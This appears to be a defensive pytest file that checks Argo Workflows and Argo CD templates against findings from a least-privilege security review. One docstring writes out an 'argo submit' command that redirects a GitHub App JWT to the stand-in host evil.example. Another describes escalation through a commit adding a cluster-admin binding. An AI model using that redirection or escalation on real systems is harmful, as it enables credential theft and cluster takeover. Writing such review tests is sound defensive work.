"""Review of issue 12 (REVIEW12a.md): least privilege of the Argo Workflows templates.

These read the shipped templates as YAML (no cluster): what Argo CD would be allowed to apply
from the config repository, and which values a Workflow's submitter can redirect."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import yaml

ROOT = Path(__file__).resolve().parents[2]
ARGO_WF = ROOT / "templates" / "argo-workflows"


def _docs(path: Path) -> list[dict[str, Any]]:
    return [doc for doc in yaml.safe_load_all(path.read_text(encoding="utf-8")) if doc]


def test_the_release_data_prep_application_is_not_in_the_unrestricted_default_project() -> None:
    """REVIEW12a #1: application.yaml auto-syncs (prune, selfHeal) infra/argo-workflows of the
    config repository in project `default`, which allows every source, every destination and every
    cluster-scoped kind. One commit under infra/argo-workflows/ (a ClusterRoleBinding to
    cluster-admin) is applied by Argo CD: the my-app AppProject's careful limits (three namespaces,
    Namespace the only cluster kind) are bypassed from the same repository."""
    (app,) = _docs(ARGO_WF / "application.yaml")
    assert app["spec"].get("project", "default") != "default", (
        "give release-data-prep its own AppProject: sourceRepos = the config repository, one "
        "destination namespace, no clusterResourceWhitelist, namespaceResourceWhitelist = "
        "WorkflowTemplate, Workflow, ServiceAccount, Role, RoleBinding"
    )


def test_the_github_api_url_the_app_credentials_go_to_is_not_a_workflow_parameter() -> None:
    """REVIEW12a #4: every report-status step signs a GitHub App JWT with the mounted private key
    and sends it to INPUT_API_URL = {{workflow.parameters.github-api-url}}. Whoever may submit the
    WorkflowTemplate (argo submit --from workflowtemplate/release-data-prep -p github-api-url=
    https://evil.example) receives the JWT: for its ~10 minutes it mints installation tokens for
    every installation of the App, on any repository it is installed on, though that person can
    never read the Secret."""
    (template,) = _docs(ARGO_WF / "workflowtemplate.yaml")
    for step in template["spec"]["templates"]:
        for env in (step.get("container") or {}).get("env") or []:
            if env["name"] == "INPUT_API_URL":
                assert "{{workflow.parameters." not in str(env.get("value", "")), (
                    f"{step['name']}: the API URL the App's JWT is sent to comes from a parameter"
                )
